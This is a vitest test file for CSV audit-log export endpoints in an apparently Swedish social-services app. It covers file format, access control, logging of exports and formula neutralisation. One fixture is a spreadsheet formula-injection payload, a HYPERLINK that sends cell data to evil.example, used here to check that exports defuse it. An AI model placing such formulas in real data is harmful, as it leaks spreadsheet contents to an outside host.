import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEntry } from '../../../common/schemas/audit.ts';
import { TEST_PASSWORD, buildChild, buildOrganisation, buildUser, buildWorld } from '../../test/factories.ts';
import { anonymous, login, startTestApp, type TestApp } from '../../test/harness.ts';
import { CSV_SEPARATOR } from '../../http/csv.ts';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => t.close());

/** A display name an attacker would choose: a spreadsheet formula. */
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")';

/** A manager and tenant admin; a social worker in the child's hub whose name is a formula. */
async function world() {
  const w = await buildWorld(t.app, t.database.db, ['manager', 'tenant_admin']);
  const worker = await buildUser(t.database.db, {
    tenantId: w.tenant.id,
    organisationId: w.org.id,
    role: 'social_worker',
    displayName: EVIL_NAME,
  });
  const child = await buildChild(t.database.db, {
    tenantId: w.tenant.id,
    name: 'Åsa',
    hub: [{ user: worker, hubRole: 'social_worker' }],
  });
  const workerClient = await login(t.app, worker.email, TEST_PASSWORD);
  expect((await workerClient.get(`/api/children/${child.id}`)).statusCode).toBe(200);
  return { ...w, worker, workerClient, child };
}

const read = (body: string): Record<string, string>[] =>
  parse(body, { bom: true, columns: true, delimiter: CSV_SEPARATOR });

describe('GET /api/audit/children/:id/log.csv', () => {
  it('is the same log as the JSON one, as CSV with a BOM, CRLF and formulas neutralised', async () => {
    const w = await world();
    const res = await w.clients.manager.get(`/api/audit/children/${w.child.id}/log.csv`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="navet-logg-barn-${w.child.id}.csv"`);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(
      res.body
        .split('\n')
        .slice(0, -1)
        .every((l) => l.endsWith('\r')),
    ).toBe(true);

    const rows = read(res.body);
    const json = (await w.clients.manager.get(`/api/audit/children/${w.child.id}?limit=100`)).json<{
      items: AuditEntry[];
    }>();
    // The JSON read came after the export, so it shows one more row: the export itself.
    expect(json.items[0]?.action).toBe('audit.export_child_log');
    expect(rows.map((r) => Number(r.id))).toEqual(json.items.slice(1).map((i) => i.id));

    const read1 = rows.find((r) => r.actor_user_id === w.worker.id);
    expect(read1).toMatchObject({ child_id: w.child.id, actor_name: `'${EVIL_NAME}` });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the export is itself in the log', async () => {
    const w = await world();
    await w.clients.manager.get(`/api/audit/children/${w.child.id}/log.csv`);
    const res = await w.clients.tenant_admin.get(`/api/audit/children/${w.child.id}/log.csv`);
    const exported = read(res.body).filter((r) => r.action === 'audit.export_child_log');
    expect(exported.map((r) => r.actor_user_id)).toEqual([w.people.manager.id]);
  });

  it('401 anonymously, 403 for a social worker, 404 outside scope, 400 for a bad id', async () => {
    const w = await world();
    const other = await world();
    const url = (id: string) => `/api/audit/children/${id}/log.csv`;
    expect((await anonymous(t.app).get(url(w.child.id))).statusCode).toBe(401);
    expect((await w.workerClient.get(url(w.child.id))).statusCode).toBe(403);
    for (const client of [w.clients.manager, w.clients.tenant_admin]) {
      const res = await client.get(url(other.child.id));
      expect(res.statusCode).toBe(404);
      expect(res.json()).toMatchObject({ error: 'not_found' });
    }
    const org2 = await buildOrganisation(t.database.db, w.tenant.id);
    const outsider = await buildUser(t.database.db, {
      tenantId: w.tenant.id,
      organisationId: org2.id,
      role: 'manager',
    });
    const outsiderClient = await login(t.app, outsider.email, TEST_PASSWORD);
    expect((await outsiderClient.get(url(w.child.id))).statusCode).toBe(404);
    const bad = await w.clients.manager.get(url('abc'));
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ issues: [{ path: 'params.id' }] });
  });
});

describe('GET /api/audit/users/:id/log.csv', () => {
  it('lists what the user did, with Swedish letters intact; the export is logged', async () => {
    const w = await world();
    const res = await w.clients.manager.get(`/api/audit/users/${w.worker.id}/log.csv`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="navet-logg-anvandare-${w.worker.id}.csv"`);
    const rows = read(res.body);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.actor_user_id === w.worker.id && r.actor_name === `'${EVIL_NAME}`)).toBe(true);
    const log = (await w.clients.tenant_admin.get(`/api/audit/users/${w.people.manager.id}?limit=10`)).json<{
      items: AuditEntry[];
    }>();
    expect(log.items.find((i) => i.action === 'audit.export_user_log')?.entityId).toBe(w.worker.id);
  });

  it('401 anonymously, 403 for a social worker, 404 for a user of another tenant', async () => {
    const w = await world();
    const other = await world();
    const url = (id: string) => `/api/audit/users/${id}/log.csv`;
    expect((await anonymous(t.app).get(url(w.worker.id))).statusCode).toBe(401);
    expect((await w.workerClient.get(url(w.worker.id))).statusCode).toBe(403);
    const res = await w.clients.manager.get(url(other.worker.id));
    expect(res.statusCode).toBe(404);
    expect(res.json()).toMatchObject({ error: 'not_found' });
  });
});
